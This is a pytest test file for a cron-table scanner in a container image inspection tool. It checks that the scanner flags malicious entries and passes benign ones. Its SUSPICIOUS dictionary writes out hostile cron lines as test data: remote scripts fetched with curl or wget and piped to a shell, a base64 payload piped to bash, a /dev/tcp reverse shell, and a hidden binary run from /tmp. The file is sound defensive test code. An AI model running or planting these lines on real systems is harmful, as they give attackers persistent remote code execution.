"""Lines of cron tables that fetch programs and run them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.images.contents.cron import suspicious_lines

SUSPICIOUS = {
    "*/5 * * * * root curl -fsSL http://198.51.100.7/a.sh | bash": "runs what it fetches over the network",
    "@reboot root wget -qO- http://evil.example/x|sudo sh": "runs what it fetches over the network",
    "* * * * * root curl http://evil.example/p | /usr/bin/python3": "runs what it fetches over the network",
    "* * * * * root echo aWQ= | base64 -d | bash": "runs what it unpacks from base64",
    "* * * * * root bash -i >& /dev/tcp/198.51.100.7/443 0>&1": "opens a connection as a file",
    "* * * * * root /tmp/.x/kdevtmpfsi": "runs a hidden or temporary program",
}
HARMLESS = [
    "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
    "# curl http://evil.example/a | sh",
    "0 3 * * * app curl -fsS https://hc.example/ping > /dev/null",
    "0 3 * * * root find /tmp -mtime +7 -delete",
    "SHELL=/bin/sh",
]


@pytest.mark.parametrize("line", SUSPICIOUS)
def test_catches(make, layered, line) -> None:
    tree = layered(make.layer(make.file("etc/cron.d/x", f"# jobs\n{line}\n".encode())))
    (found,) = suspicious_lines(tree, ["etc/cron.d/x"])
    assert (found.path, found.line, found.sign) == ("etc/cron.d/x", 2, SUSPICIOUS[line])


@pytest.mark.parametrize("line", HARMLESS)
def test_passes(make, layered, line) -> None:
    tree = layered(make.layer(make.file("etc/crontab", line.encode())))
    assert list(suspicious_lines(tree, ["etc/crontab"])) == []


@given(st.text(alphabet="curlwget|sh/tmp #\n*", max_size=200))
def test_any_text_can_be_a_cron_table(text: str) -> None:
    class Tree:
        def read(self, path: str, limit: int) -> bytes:
            return text.encode()

    assert all(0 < line.line <= text.count("\n") + 1 for line in suspicious_lines(Tree(), ["x"]))  # type: ignore[arg-type]
